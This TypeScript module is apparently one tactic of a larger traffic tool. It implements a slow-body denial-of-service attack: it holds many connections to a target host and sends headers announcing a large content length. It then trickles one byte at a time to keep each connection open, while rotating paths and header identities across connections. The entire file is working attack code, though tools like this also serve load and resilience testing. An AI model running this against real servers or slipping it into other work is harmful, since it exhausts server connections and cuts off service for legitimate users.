import { HeldConnections } from '../held-connections.ts';
import type { Begin } from '../plan.ts';
import { rawHead } from '../raw-request.ts';

export const slowBodies: Begin<'slow-bodies'> = (plan, tactic) => {
  const { method, paths, type, announcedBytes, identities, everyMs } = tactic;
  const beginning = Buffer.alloc(tactic.beginningBytes, '{');
  return new HeldConnections(plan, {
    everyMs,
    hold: ({ socket, number }) => {
      const path = paths[number % paths.length] ?? '/';
      const headers = {
        ...identities[number % identities.length],
        'content-type': type,
        'content-length': String(announcedBytes),
      };
      socket.write(`${rawHead(`${plan.host}:${plan.port}`, { method, path, headers })}\r\n`);
      socket.write(beginning);
      return () => socket.write('{');
    },
  });
};
